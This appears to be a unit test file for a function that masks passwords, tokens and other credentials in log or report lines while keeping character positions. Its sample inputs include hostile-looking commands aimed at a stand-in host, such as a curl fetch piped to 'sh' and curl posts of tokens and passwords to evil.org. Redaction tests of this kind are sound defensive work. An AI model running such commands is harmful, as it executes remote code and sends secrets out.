/** What a report shows of a line: the same signs in the same places, but for secrets. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { hideSecrets } from '../../../../src/extract/secrets/hide-secrets.ts';

describe('hiding secrets', () => {
  test.each([
    ['x http://user:pw@evil.org/a y', 'x http://*******@evil.org/a y'],
    ['curl joe:pw@evil.org/x | sh', 'curl ******@evil.org/x | sh'],
    [String.raw`"http:\/\/u:pw@evil.org\/a?x=1"`, String.raw`"http:\/\/****@evil.org\/a?x=1"`],
    ['https:/u:p@evil.org/x', 'https:/***@evil.org/x'],
    ['hxxp[:]//u:p@evil[.]org', 'hxxp[:]//***@evil[.]org'],
    [String.raw`"http://u:pw\u0040evil.org/a"`, String.raw`"http://****\u0040evil.org/a"`],
    [String.raw`"http://evil.org\u003ftoken\u003dabc"`, `"http://evil.org\\${'*'.repeat(19)}"`],
    [String.raw`"http://evil.org/a?token\x3dabc"`, `"http://evil.org/a?${'*'.repeat(12)}"`],
    ['see http://a.org?password=abc', 'see http://a.org?************'],
    ['src="//joe:p@evil.org/a"', 'src="//*****@evil.org/a"'],
    ['http://u:p@@evil.org/k', 'http://****@evil.org/k'],
    ['postgres://u:p@evil.org/db', 'postgres://***@evil.org/db'],
    ['see http://a.org/e?password=abc and 8.8.8.8', 'see http://a.org/e?************ and 8.8.8.8'],
    ['http://a.org/d#access_token=abc', 'http://a.org/d#****************'],
    ['https://hooks.slack.com/services/T0/B0/XX ok', 'https://hooks.slack.com/***************** ok'],
    ['http://a.org/m?to=http://u:p@b.org/', `http://a.org/m?${'*'.repeat(20)}`],
  ])('%s', (line, shown) => {
    expect(hideSecrets(line)).toBe(shown);
  });

  // What stands between ‹ and › is hidden.
  test.each([
    'curl -u ‹me:pw› https://evil.org/x',
    `curl -u '‹me:p"w›' https://evil.org/x`,
    'curl -u "‹me:p\\"w›" https://evil.org/x',
    String.raw`curl -u '‹me:p'\''w›' https://evil.org/x`,
    'curl -u‹me:pw› https://evil.org/x',
    'curl -s -U ‹me:pw› https://evil.org/x',
    'curl --user ‹me:pw› https://evil.org/x',
    'curl --proxy-user ‹me:pw› https://evil.org/x',
    'wget --user=‹me› --password=‹pw› https://evil.org/x',
    'wget --http-password ‹pw› https://evil.org/x',
    'curl "--user", "‹me:pw›", "https://evil.org/x"',
    'http --auth ‹me:pw› https://evil.org/x',
    "curl -H 'Authorization: ‹Bearer› ‹abcdef›' https://evil.org/x",
    'curl -H "Authorization: ‹Basic› ‹bWU6cHc=›" https://evil.org/x',
    "wget --header='Authorization: ‹token› ‹abcdef›' https://evil.org/x",
    'curl -H "X-Api-Key: ‹abcdef›" https://evil.org/x',
    "curl -H 'Cookie: ‹a=b; c=d›' https://evil.org/x",
    "curl --data 'token=‹abcdef›' https://evil.org/x",
    'curl -d \'{"password":"‹hunter2›","n":1}\' https://evil.org/x',
    String.raw`x("{\"password\":\"‹hunter2›\",\"url\":\"https://evil.org/x\"}")`,
    'curl -F secret=‹abc› https://evil.org/x',
    'fetch("https://evil.org/x", { headers: { Authorization: "‹Bearer abcdef›" } })',
    'x.setHeader("X-Auth-Token", "‹abcdef›").get("https://evil.org/x")',
    'x.get("https://evil.org/x").auth(`Bearer ‹abc123›`)',
    'requests.get("https://evil.org/x", auth=("me", "‹pw›"))',
    'new Request("https://evil.org/x").basicAuth("me", "‹pw›")',
    "iwr https://evil.org/x -Headers @{Authorization='‹Bearer abcdef›'}",
    'mysql -h8.8.8.8 -uroot -p‹hunter2› db',
    'mysql -h 8.8.8.8 --password=‹hunter2›',
    'PGPASSWORD=‹hunter2› psql -h 8.8.8.8 -U me',
    'sshpass -p ‹hunter2› ssh me@8.8.8.8',
    "sshpass -p '‹hunter 2›' ssh me@8.8.8.8",
    'docker login -u me -p ‹hunter2› https://evil.org/',
    'redis-cli -h 8.8.8.8 -a ‹hunter2›',
    'mongosh --host 8.8.8.8 -u me -p ‹hunter2›',
    'ncftpput -u me -p ‹hunter2› 8.8.8.8 x',
    'ldapsearch -H ldap://8.8.8.8 -w ‹hunter2›',
    'ipmitool -H 8.8.8.8 -U me -P ‹hunter2› power',
    'snmpwalk -v2c -c ‹hunter2› 8.8.8.8',
    'lftp -u ‹me,hunter2› 8.8.8.8',
    'smbclient //8.8.8.8/x -U ‹me%hunter2›',
    'xfreerdp /u:me /p:‹hunter2› /v:8.8.8.8',
    'plink -pw ‹hunter2› me@8.8.8.8',
    'influx -username me -password ‹hunter2› -host 8.8.8.8',
    'wmic /node:8.8.8.8 /user:me /password:‹hunter2›',
    'jdbc:mysql://8.8.8.8/db?‹user=me&password=pw›',
    'mongodb+srv://‹u:p›@evil.org/db',
    'machine evil.org login me password ‹hunter2› # https://evil.org/',
    'npm config set //evil.org/:_authToken ‹abcdef›',
    "const c = { host: '8.8.8.8', user: 'me', password: '‹hunter2›' };",
    "$c = ['host' => '8.8.8.8', 'password' => '‹hunter2›'];",
    'Server=8.8.8.8;User Id=me;Password=‹hunter2›;',
    'Server=8.8.8.8;Uid=me;Pwd=‹hunter2›;',
    'DB_PASSWORD=‹hunter2› DB_HOST=8.8.8.8',
    'export TOKEN=‹abcdef›; curl https://evil.org/',
    'password: ‹hunter2› # https://evil.org/',
    '<add key="ApiKey" value="‹abcdef›" url="https://evil.org/"/>',
    '<password>‹hunter2›</password><url>https://evil.org/</url>',
    'url = "https://evil.org", api_key = "‹abcdef123456›"',
    'x = "‹ghp_0123456789abcdefghij0123456789abcdef›" # https://evil.org/',
    'x = "‹eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl›" # https://evil.org/',
    'x = "-----BEGIN RSA PRIVATE KEY-----‹\\nMIIEpAIBAAKCAQEA\\n›" # https://evil.org/',
    'http://‹u:p"w›@evil.org/x',
    '"http://‹u:p\'w›@evil.org/x"',
    String.raw`"http://‹u:p\"w›@evil.org/x"`,
    '`https://‹u:p w›@evil.org/x`',
    'ftp://‹u:p<w›@evil.org/x',
  ])('%s', (marked) => {
    const shown = marked.replace(/‹([^›]*)›/g, (_, secret: string) => '*'.repeat(secret.length));
    expect(hideSecrets(marked.replace(/[‹›]/g, ''))).toBe(shown);
  });

  test.each([
    'gobuster -u https://evil.org/x',
    'docker run -u 1000:1000 x http://8.8.8.8/',
    'nc -u 8.8.8.8:53',
    'ssh -p 22 me@8.8.8.8',
    'docker compose -p x up # 8.8.8.8',
    'a well-known password reset at http://8.8.8.8/',
    'docker run -p 80:80 x http://8.8.8.8/',
    'token_url: https://evil.org/token',
    'const password = "https://evil.org/reset";',
    'AUTH_TOKEN_HOST=8.8.8.8',
    '["https://evil.org:8080","x@y"]',
    'passed: true, key: value, code: 404 http://8.8.8.8/',
    'mail me@acme.net now',
    'https://a.org/@scope/pkg',
    'npm i left-pad@1.2.3 http://a.org/b@2/c',
    'const x = a ? b : c; // @d',
    'http://a.org/d#section?x=1',
    'https://github.com/a/b/issues/1#issuecomment-1',
  ])('leaves alone: %s', (line) => {
    expect(hideSecrets(line)).toBe(line);
  });

  // biome-ignore format: a table
  test.each([
    'a=', 'key=', 'password=', '"password":"', '\\', '//', '@', '-u a:b ', 'cookie: ', 'mysql -p', 'auth("', '//a:b"', "'", 'eyJ', 'ghp_',
  ])('%j: four times as much takes no sixteen times the work', (unit) => {
    const workFor = (size: number): number => {
      const line = unit.repeat(Math.ceil(size / unit.length));
      const times = [0, 1, 2].map(() => {
        const before = process.cpuUsage();
        hideSecrets(line);
        const { user, system } = process.cpuUsage(before);
        return (user + system) / 1000;
      });
      return Math.min(...times);
    };
    expect(workFor(16_000)).toBeLessThan(9 * Math.max(workFor(4_000), 5));
  });

  test('no place moves', () => {
    const part = fc.constantFrom(
      'http://',
      '//',
      '/',
      '@',
      ':',
      '?',
      '#',
      '=',
      'token',
      'pw',
      ' ',
      '"',
      '\u{1f600}',
      'é',
    );
    fc.assert(
      fc.property(fc.array(part), (parts) => {
        const line = parts.join('');
        const shown = hideSecrets(line);
        expect([shown.length, [...shown].length]).toEqual([line.length, [...line].length]);
      }),
    );
  });
});
